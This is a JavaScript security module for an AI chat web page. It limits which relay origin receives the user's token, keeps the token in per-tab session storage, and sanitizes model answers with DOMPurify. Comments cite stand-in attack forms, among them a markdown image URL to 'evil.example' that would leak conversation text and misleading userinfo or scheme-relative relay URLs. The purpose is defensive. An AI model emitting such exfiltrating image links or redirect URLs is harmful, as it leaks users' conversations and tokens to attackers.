/**
 * What the chat page may send, and where: which relay gets the user's token, where the token is kept, and what
 * of an answer's HTML is rendered. An answer is untrusted text (a prompt can make a model write anything), and
 * the page's address is too (anyone can send a link), so neither may steer a request to another origin.
 *
 * Hand-written glue around the browser's own URL parser (origins are compared as it parses them, never as
 * strings) and DOMPurify (configured here, not reimplemented). The deployer's settings are <meta> elements in
 * index.html:
 *   relay-url        the relay; empty: the page's own origin
 *   relay-allowlist  other relays a `?relay=` may name: origins, separated by commas or spaces
 *   image-origins    origins an answer's images may load from, beside the page's own and data: images
 *
 * @module safety
 */
import DOMPurify from "./vendor/purify.es.js";

/**
 * The origin (scheme, host and port, as the browser will connect) of an absolute http(s) URL, else null.
 * No base URL: a relative or scheme-relative value (`//evil.example`) names no relay. A URL with userinfo
 * (`https://good.example@evil.example`, whose host is evil.example) is refused outright: no relay needs one, and
 * it exists to mislead a reader.
 *
 * @param {string} text
 * @returns {string|null} e.g. "https://good.example" (lower case, default port dropped, a trailing dot kept: the
 *   browser treats `good.example.` as another origin, and so does this)
 */
export function originOf(text) {
  let url;
  try {
    url = new URL(text);
  } catch {
    return null;
  }
  if (url.protocol !== "https:" && url.protocol !== "http:") return null;
  if (url.username || url.password) return null;
  return url.origin;
}

/**
 * @typedef {object} PageSettings
 * @property {string} pageOrigin the page's own origin
 * @property {string} relayUrl the configured relay (`relay-url`, else the page's origin)
 * @property {string[]} relayAllowlist further relays `?relay=` may name
 * @property {string[]} imageOrigins origins an answer's images may load from, beside the page's own
 */

/**
 * The deployer's settings, from the page's <meta> elements.
 *
 * @param {Document} [page]
 * @returns {PageSettings}
 */
export function pageSettings(page = document) {
  const setting = (name) => page.querySelector(`meta[name="${name}"]`)?.content.trim() ?? "";
  const list = (name) => setting(name).split(/[\s,]+/).filter(Boolean);
  const pageOrigin = new URL(page.URL).origin;
  return {
    pageOrigin,
    relayUrl: setting("relay-url") || pageOrigin,
    relayAllowlist: list("relay-allowlist"),
    imageOrigins: list("image-origins"),
  };
}

/**
 * The relay the page talks to: the configured one, or the one `?relay=` names when its origin is the configured
 * relay's or on the allowlist. Anything else is refused, with a message to show; the page then sends nothing at
 * all, since even a request without the token would tell the other origin who opened the link, and when.
 *
 * @param {string|null} requested the `?relay=` value, if any
 * @param {PageSettings} settings
 * @returns {{url: string} | {refused: string}}
 */
export function chooseRelay(requested, settings) {
  const configured = originOf(settings.relayUrl);
  if (!configured) return { refused: `The page's relay-url setting is not an http(s) URL: ${settings.relayUrl}` };
  if (!requested) return { url: settings.relayUrl };
  const allowed = new Set([configured, ...settings.relayAllowlist.map(originOf).filter(Boolean)]);
  if (allowed.has(originOf(requested))) {
    const url = new URL(requested);
    return { url: url.origin + url.pathname.replace(/\/+$/, "") };
  }
  return {
    refused: `This page sends messages and tokens only to ${[...allowed].join(", ")}. `
      + `The link asked for the relay ${requested.slice(0, 200)}, which is not one of them: nothing was sent to it.`,
  };
}

// The token is kept in this tab's sessionStorage, under the relay's origin. So it survives a reload, yet it never
// enters the address (a shared or bookmarked link carries none), no other tab and no script of another origin can
// read it (sessionStorage is per origin and per tab; a link opened with noopener gets no copy), and a token typed
// for one relay is never offered to another, even an allowed one. Not localStorage: that outlives the tab and is
// shared by every tab of the page's origin. Not memory only: a reload mid-answer would then lose the answer's
// follow-up until the token was typed again.
const TOKEN_KEY_PREFIX = "relay-token:";

/** @param {string} relayUrl @returns {string} the token kept for this relay, or "" */
export function recallToken(relayUrl) {
  return sessionStorage.getItem(TOKEN_KEY_PREFIX + originOf(relayUrl)) ?? "";
}

/** @param {string} relayUrl @param {string} token "" forgets it */
export function keepToken(relayUrl, token) {
  const key = TOKEN_KEY_PREFIX + originOf(relayUrl);
  if (token) sessionStorage.setItem(key, token);
  else sessionStorage.removeItem(key);
}

// What a chat answer needs: markdown's output and nothing that loads, submits, runs, positions or names itself
// (an element's id could stand in for the page's own: getElementById("content") finds the first in the document).
const ANSWER_TAGS = [
  "a", "b", "blockquote", "br", "code", "del", "em", "h1", "h2", "h3", "h4", "h5", "h6", "hr", "i", "img", "kbd",
  "li", "ol", "p", "pre", "s", "strong", "sub", "sup", "table", "tbody", "td", "tfoot", "th", "thead", "tr", "ul",
];
// Each attribute only where markdown puts it: an href or src elsewhere does nothing today, and nothing is gained
// by keeping it for some future element that would load it.
const ANSWER_ATTRIBUTES = {
  A: ["href", "title"], IMG: ["src", "alt", "title"], OL: ["start"], TH: ["align"], TD: ["align"], CODE: ["class"],
};
const LINK_PROTOCOLS = new Set(["http:", "https:", "mailto:"]);
// Raster images only: an SVG is a document, and these four are what a model or a user pastes.
const DATA_IMAGE = /^data:image\/(?:png|gif|jpeg|webp)[;,]/i;
const CODE_LANGUAGE = /^language-[\w+-]+$/; // marked's class on a fenced code block: the only class kept

/**
 * A sanitiser for answers' HTML (marked's output, which passes raw HTML through).
 *
 * @param {{pageOrigin: string, imageOrigins?: string[]}} options
 * @returns {(html: string) => DocumentFragment} built in an inert document: nothing in it loads until it is
 *   inserted, and by then everything that could reach another origin is gone
 */
export function createSanitizer({ pageOrigin, imageOrigins = [] }) {
  const purifier = DOMPurify(window); // an instance of its own: these hooks do not change DOMPurify for others
  const imageOriginSet = new Set([pageOrigin, ...imageOrigins.map(originOf).filter(Boolean)]);
  purifier.addHook("uponSanitizeAttribute", (node, attribute) => {
    if (!ANSWER_ATTRIBUTES[node.tagName]?.includes(attribute.attrName)) attribute.keepAttr = false;
  });
  purifier.addHook("afterSanitizeAttributes", (node) => {
    keepCodeLanguage(node);
    if (node.tagName === "A") makeLinkSafe(node);
    else if (node.tagName === "IMG") keepImageIfAllowed(node, imageOriginSet);
  });
  const config = {
    ALLOWED_TAGS: ANSWER_TAGS, ALLOWED_ATTR: [...new Set(Object.values(ANSWER_ATTRIBUTES).flat())],
    ALLOW_DATA_ATTR: false, ALLOW_ARIA_ATTR: false, RETURN_DOM_FRAGMENT: true,
  };
  return (html) => {
    const fragment = purifier.sanitize(inertFragment(html), config);
    // An image whose source was removed shows its description instead of a broken-image box.
    for (const image of fragment.querySelectorAll("img:not([src])")) image.replaceWith(image.alt);
    return fragment;
  };
}

// Parsed as a <template>'s content: inert (nothing loads or runs) and always a fragment. Handed a string,
// DOMPurify parses a whole document, in which an answer that starts with <frameset> leaves no body, and null
// comes back instead of the answer.
function inertFragment(html) {
  const template = document.createElement("template");
  template.innerHTML = html;
  return template.content;
}

function keepCodeLanguage(node) {
  if (!node.hasAttribute("class")) return;
  const kept = [...node.classList].filter((name) => CODE_LANGUAGE.test(name)); // only <code> keeps a class
  if (kept.length) node.setAttribute("class", kept.join(" "));
  else node.removeAttribute("class");
}

// A link leaves only when the user clicks it, in a new tab that cannot reach this one (noopener) and is not told
// where it came from (noreferrer). Absolute http(s) and mailto only: a relative link would open this page itself
// (with a `?relay=` or `#session=` of the answer's choosing; refused or harmless now, but of no use in an answer).
function makeLinkSafe(link) {
  const href = link.getAttribute("href");
  if (href !== null) {
    let url = null;
    try {
      url = new URL(href);
    } catch {
      // relative or malformed: no destination
    }
    if (url && LINK_PROTOCOLS.has(url.protocol) && !url.username && !url.password) link.setAttribute("href", url.href);
    else link.removeAttribute("href");
  }
  link.setAttribute("target", "_blank");
  link.setAttribute("rel", "noopener noreferrer");
}

// An image loads by itself, so its URL is a way out for conversation text (`![](https://evil.example/?q=...)`):
// only data: images and the allowed origins (the page's own by default) are kept.
function keepImageIfAllowed(image, allowedOrigins) {
  const src = image.getAttribute("src");
  if (src === null) return;
  let url = null;
  try {
    url = new URL(src, document.baseURI);
  } catch {
    // malformed: not loaded
  }
  const allowed = url && (url.protocol === "data:" ? DATA_IMAGE.test(url.href)
    : originOf(url.href) !== null && allowedOrigins.has(url.origin));
  if (allowed) image.setAttribute("src", url.href);
  else image.removeAttribute("src");
}

/** The page's own sanitiser, with the deployer's image origins. */
export const sanitizeAnswer = createSanitizer(pageSettings());
